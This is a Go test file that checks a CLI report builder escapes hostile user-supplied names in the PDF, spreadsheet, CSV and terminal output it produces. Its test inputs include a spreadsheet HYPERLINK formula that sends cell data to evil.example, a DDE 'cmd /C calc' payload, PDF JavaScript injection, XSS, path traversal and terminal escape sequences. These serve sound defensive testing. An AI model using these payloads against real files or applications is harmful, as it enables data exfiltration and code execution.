package cli

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"casebuilder/casebuilder/render/xlsx"
)

// casebuilderRun runs a command in the folder at hand.
func casebuilderRun(t *testing.T, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	var out, err bytes.Buffer
	code = Run(append([]string{"casebuilder"}, args...), Streams{In: strings.NewReader(""), Out: &out, Err: &err})
	return code, out.String(), err.String()
}

// hostile are names that mean something to a spreadsheet, a PDF, a template, a
// terminal or a page of HTML.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd`, `-2+3`,
	`) Tj ET /JS (app.alert(1)) /S /JavaScript`, `{{.Company}} {{range 1000000000}}a{{end}}`,
	`<script>alert(1)</script>`, `../../etc/passwd`, `%s%n%d`,
}

// Text from users is text, in every file and on the terminal.
func TestInjection(t *testing.T) {
	if testing.Short() {
		t.Skip("runs builds")
	}
	t.Chdir(t.TempDir())
	for i, name := range hostile {
		if code, _, e := casebuilderRun(t, "init", "company.yaml", "--force", "--name", name); code != 0 {
			t.Errorf("%q: init: exit %d\n%s", name, code, e)
			continue
		}
		code, out, e := casebuilderRun(t, "build", "company.yaml", "--trials", "256", "-o", "out", "--force")
		if code != 0 {
			t.Errorf("%q: build: exit %d\n%s", name, code, e)
			continue
		}
		if !strings.Contains(strings.Join(strings.Fields(out), " "), name[:4]) {
			t.Errorf("%q: want the name as it is on the terminal, got\n%s", name, out)
		}
		pdf, err := os.ReadFile("out/pitch.pdf")
		if err != nil {
			t.Fatal(err)
		}
		// The name itself may stand there: as a string whose brackets are escaped,
		// and in the metadata, which are XML.
		pdf = bytes.ReplaceAll(pdf, []byte("<rdf:li xml:lang=\"x-default\">"+name), nil)
		pdf = bytes.ReplaceAll(pdf, []byte(strings.NewReplacer(`\`, `\\`, `(`, `\(`, `)`, `\)`).Replace(name)), nil)
		for _, word := range []string{"/JavaScript", "/Launch", "/SubmitForm", "/URI (http://evil", "/URI (=", "/GoToR"} {
			if bytes.Contains(pdf, []byte(word)) {
				t.Errorf("%q: the PDF has %s", name, word)
			}
		}
		src, err := os.ReadFile("out/workbook.xlsx")
		if err != nil {
			t.Fatal(err)
		}
		book, err := xlsx.Open(bytes.NewReader(src), int64(len(src)), xlsx.ReadOptions{Name: "workbook.xlsx"})
		if err != nil {
			t.Fatal(err)
		}
		found := 0
		for _, sheet := range []string{"About", "Summary", "Inputs"} {
			g, err := book.Grid(sheet)
			if err != nil {
				t.Fatal(err)
			}
			for _, r := range g.Rows {
				for col := 1; col < 16; col++ {
					c := g.At(r.Row, col)
					if strings.Contains(c.Formula, "evil") || strings.Contains(c.Formula, "calc") {
						t.Errorf("%q: %s has the formula %q", name, sheet, c.Formula)
					}
					if strings.Contains(c.Text, name) {
						found++
					}
				}
			}
		}
		if found == 0 {
			t.Errorf("%q: want the name as text in the workbook", name)
		}
		if i == 0 {
			if code, out, e := casebuilderRun(t, "check", "company.yaml", "--format", "csv"); code != 0 || csvRuns(t, out) {
				t.Errorf("%q: check as CSV: exit %d\n%s%s", name, code, out, e)
			}
		}
	}
}

// csvRuns reports whether a cell of a table would be taken for a formula.
func csvRuns(t *testing.T, table string) bool {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(table)).ReadAll()
	if err != nil {
		t.Fatalf("want a CSV table, got %v\n%s", err, table)
	}
	for _, r := range rows {
		for _, c := range r {
			if strings.HasPrefix(c, "=") || strings.HasPrefix(c, "@") || strings.HasPrefix(c, "+c") {
				return true
			}
		}
	}
	return false
}

// Names of cases that are formulas are escaped in tables, and characters that
// steer a terminal are not printed.
func TestHostileCases(t *testing.T) {
	t.Chdir(t.TempDir())
	if err := os.Mkdir("mine", 0o777); err != nil {
		t.Fatal(err)
	}
	const own = `id: hostile-2026
organisation: "=cmd|' /C calc'!A0"
sector: retail
disclosed: 2026-05
attack: hacking
summary: "Bell \a, escape \e[31m, right to left \u202e, and a line of two\nlines."
model: {kind: data_breach}
sources: [{id: s1, title: "@SUM(1+1)", kind: company, url: "javascript:alert(1)"}]
`
	if err := os.WriteFile(filepath.Join("mine", "a.yaml"), []byte(own), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{
		{"cases", "list", "--cases", "mine", "--year", "2026"}, {"cases", "show", "hostile-2026", "--cases", "mine"},
		{"cases", "search", "escape", "--cases", "mine"}, {"cases", "check", "mine"},
		{"cases", "list", "--cases", "mine", "--format", "csv"}, {"cases", "show", "hostile-2026", "--cases", "mine", "--format", "csv"},
		{"cases", "search", "escape", "--cases", "mine", "--format", "csv"},
	} {
		code, out, e := casebuilderRun(t, args...)
		if strings.ContainsAny(out+e, "\x1b\a\u202e") {
			t.Errorf("%v: a character that steers the terminal was printed:\n%q", args, out+e)
		}
		if args[len(args)-1] == "csv" && code == 0 && csvRuns(t, out) {
			t.Errorf("%v: a cell is a formula:\n%s", args, out)
		}
		if code == 0 && args[1] == "list" && !strings.Contains(out, "hostile-2026") {
			t.Errorf("%v: want the case, got\n%s", args, out)
		}
		if code != 0 && code != codeInput {
			t.Errorf("%v: exit %d\n%s", args, code, e)
		}
	}
	// A name may end in a new line on the terminal of nobody.
	if code, out, _ := casebuilderRun(t, "cases", "list", "--year", "2026", "--cases", "mine", "--json"); code == 0 && !strings.Contains(out, `calc`) {
		t.Errorf("want the name as it is in JSON, got %d\n%s", code, out)
	}
}
